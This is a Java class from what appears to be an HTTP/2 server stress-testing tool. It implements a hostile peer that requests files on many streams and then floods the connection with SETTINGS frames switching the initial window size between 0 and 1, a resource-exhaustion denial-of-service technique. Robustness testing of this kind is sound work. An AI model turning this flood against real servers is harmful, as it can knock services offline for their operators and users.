/* SPDX-License-Identifier: Apache-2.0 */
package org.sbamock.loadgen.attack.peer;

import java.io.IOException;
import java.util.EnumSet;
import java.util.Set;
import org.sbamock.http.HttpProtocol;
import org.sbamock.loadgen.attack.wire.AttackSession;
import org.sbamock.loadgen.attack.wire.Http2Frames;
import org.sbamock.loadgen.attack.wire.Octets;
import org.sbamock.loadgen.attack.wire.RawConnection;
import org.sbamock.loadgen.attack.wire.RequestHead;

/** A peer that changes the windows of all its streams again and again. */
final class WindowToggle implements HostilePeer {
  private static final int BATCH = 1 << 12;

  @Override
  public String id() {
    return "window-toggle";
  }

  @Override
  public String description() {
    return "Requests files of 1 MiB on "
        + Streams.COUNT
        + " streams, and changes SETTINGS_INITIAL_WINDOW_SIZE between 0 and 1 without end.";
  }

  @Override
  public Set<HttpProtocol> protocols() {
    return EnumSet.of(HttpProtocol.H2C, HttpProtocol.H2);
  }

  @Override
  public void attack(AttackSession session) throws IOException {
    RequestHead head = RequestHead.get(session.target(), FileSize.MEDIUM.path());
    byte[] toggle =
        new Octets()
            .octets(Http2Frames.initialWindow(1))
            .octets(Http2Frames.initialWindow(0))
            .toArray();
    byte[] batch = Octets.repeat(toggle, BATCH);
    try (RawConnection connection = session.connect()) {
      connection.drain();
      connection.write(Http2Frames.preface(0));
      connection.write(Streams.requests(head, 0, Streams.COUNT));
      while (!session.isOver()) {
        connection.write(batch);
      }
    }
  }
}
